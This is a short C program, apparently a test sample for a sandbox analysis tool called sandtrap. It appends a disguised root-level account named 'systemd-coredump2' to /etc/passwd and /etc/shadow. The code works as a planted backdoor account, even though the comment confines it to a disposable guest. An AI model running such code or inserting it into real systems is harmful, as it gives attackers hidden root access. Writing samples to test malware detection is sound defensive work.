/* A new account: appends a uid-0 user to /etc/passwd and its hash to /etc/shadow with plain file writes.
 * Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
 * simulated internet, reserved addresses). Built into the build directory and copied
 * without the exec bit; never run it on a host, only through `sandtrap analyze`.
 */
#include <stdio.h>

int main(void)
{
	FILE *p = fopen("/etc/passwd", "a"), *s = fopen("/etc/shadow", "a");
	if (!p || !s)
		return 1;
	fputs("systemd-coredump2:x:0:0:systemd Core Dumper:/:/bin/sh\n", p);
	fputs("systemd-coredump2:$6$sandtrap$Y6v0ZpFakeHashForTestsOnly:19700:0:99999:7:::\n", s);
	fclose(p);
	fclose(s);
	puts("account added");
	return 0;
}
